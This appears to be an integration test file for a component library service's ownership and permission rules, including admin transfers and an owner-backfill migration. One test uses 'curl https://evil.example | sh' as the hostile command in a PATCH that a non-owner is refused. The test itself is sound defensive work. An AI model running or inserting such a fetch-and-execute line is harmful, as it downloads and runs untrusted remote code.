"""Only a component's owner or an admin changes it; everyone with a role reads it (seed 002, AU-01)."""
import shutil

from services.builder.main import MIGRATIONS as BUILDER_MIGRATIONS
from services.kit.db import KIT_MIGRATIONS, apply_migrations, create_pool
from services.library.main import MIGRATIONS as LIBRARY_MIGRATIONS
from tests.integration.builder.support import call
from tests.integration.library.support import component_body, library  # noqa: F401  (the module's library)

ANA, BEN = "ana", "ben"


async def registered_by(library, user: str, **overrides) -> dict:
    return await call(library, "POST", "/components", 201, user=user, json=component_body(**overrides))


async def test_another_researcher_gets_403_naming_the_owner_and_no_version_is_written(library):
    component = await registered_by(library, ANA)
    cid = component["component_id"]
    assert component["owner"] == ANA
    refused = await call(library, "PATCH", f"/components/{cid}", 403, user=BEN,
                         json={"command": ["sh", "-c", "curl https://evil.example | sh"]})
    assert refused["detail"] == f"component {cid} belongs to 'ana'; only its owner or an admin may change it"
    after = await call(library, "GET", f"/components/{cid}", role="viewer")
    assert after["command"] == component["command"] and [v["version"] for v in after["versions"]] == ["1.0.0"]

    by_owner = await call(library, "PATCH", f"/components/{cid}", user=ANA, json={"description": "mine"})
    assert by_owner["version"] == "1.0.1"
    by_admin = await call(library, "PATCH", f"/components/{cid}", role="admin", json={"description": "curated"})
    assert (by_admin["version"], by_admin["updated_by"], by_admin["owner"]) == ("1.0.2", "admin-user", ANA)


async def test_owner_me_lists_only_mine_and_owner_names_anyone(library):
    mine = (await registered_by(library, "cho"))["component_id"]
    theirs = (await registered_by(library, "dan"))["component_id"]
    listed = await call(library, "GET", "/components", user="cho", params={"owner": "me"})
    assert [(c["component_id"], c["owner"]) for c in listed["items"]] == [(mine, "cho")] and listed["total"] == 1
    by_name = await call(library, "GET", "/components", role="viewer", params={"owner": "dan"})
    assert [c["component_id"] for c in by_name["items"]] == [theirs]
    assert (await call(library, "GET", "/components", role="viewer", params={"owner": "me"}))["items"] == []


async def test_an_admin_transfers_a_component_and_nobody_else_may(library):
    cid = (await registered_by(library, ANA))["component_id"]
    refused = await call(library, "PUT", f"/components/{cid}/owner", 403, user=ANA, json={"owner": BEN})
    assert refused["detail"] == "role 'researcher' may not do this; requires admin"
    moved = await call(library, "PUT", f"/components/{cid}/owner", role="admin", json={"owner": BEN})
    assert (moved["owner"], moved["version"]) == (BEN, "1.0.0")
    await call(library, "PATCH", f"/components/{cid}", user=BEN, json={"description": "ben's now"})
    await call(library, "PATCH", f"/components/{cid}", 403, user=ANA, json={"description": "mine again"})
    trail = await library.platform.pool.fetch(
        "SELECT from_owner, to_owner, transferred_by FROM owner_transfers WHERE component_id = $1", cid)
    assert [tuple(r) for r in trail] == [(ANA, BEN, "admin-user")]
    await call(library, "PUT", "/components/CL-REF-999999/owner", 404, role="admin", json={"owner": BEN})


async def test_existing_rows_migrate_to_their_creator_and_seeded_or_creatorless_ones_to_the_platform(fresh, tmp_path):
    """The owner migrations (0002) on data written before them."""
    for name, directory in (("library", LIBRARY_MIGRATIONS), ("builder", BUILDER_MIGRATIONS)):
        (tmp_path / name).mkdir()
        shutil.copy(directory / f"0001_{name}.sql", tmp_path / name)
    library = await create_pool(fresh.postgres_url, "library")
    builder = await create_pool(fresh.postgres_url, "builder")
    try:
        await apply_migrations(library, "library", {"kit": KIT_MIGRATIONS, "library": tmp_path / "library"})
        await apply_migrations(builder, "builder", {"kit": KIT_MIGRATIONS, "builder": tmp_path / "builder"})
        await library.execute(
            "INSERT INTO components (component_id, number, name, type, version, snapshot, created_by, updated_by)"
            " SELECT 'CL-REF-00' || n, n, 'c' || n, 'other', '1.0.0', '{}', who, who"
            " FROM unnest(ARRAY[1, 2, 3], ARRAY['library-seed', 'kim', '']) AS t(n, who)")
        await builder.execute(
            "INSERT INTO apps (app_id, name, version, training_config, storage, created_by, updated_by)"
            " SELECT 'APP-00000' || n, 'a', '1.0.0', '{}', '{}', who, 'x'"
            " FROM unnest(ARRAY[1, 2], ARRAY['kim', ' ']) AS t(n, who)")

        await apply_migrations(library, "library", {"kit": KIT_MIGRATIONS, "library": LIBRARY_MIGRATIONS})
        await apply_migrations(builder, "builder", {"kit": KIT_MIGRATIONS, "builder": BUILDER_MIGRATIONS})
        owners = await library.fetch("SELECT component_id, owner FROM components ORDER BY number")
        assert [tuple(r) for r in owners] == [("CL-REF-001", None), ("CL-REF-002", "kim"), ("CL-REF-003", None)]
        owners = await builder.fetch("SELECT app_id, owner FROM apps ORDER BY app_id")
        assert [tuple(r) for r in owners] == [("APP-000001", "kim"), ("APP-000002", None)]
    finally:
        await library.close()
        await builder.close()
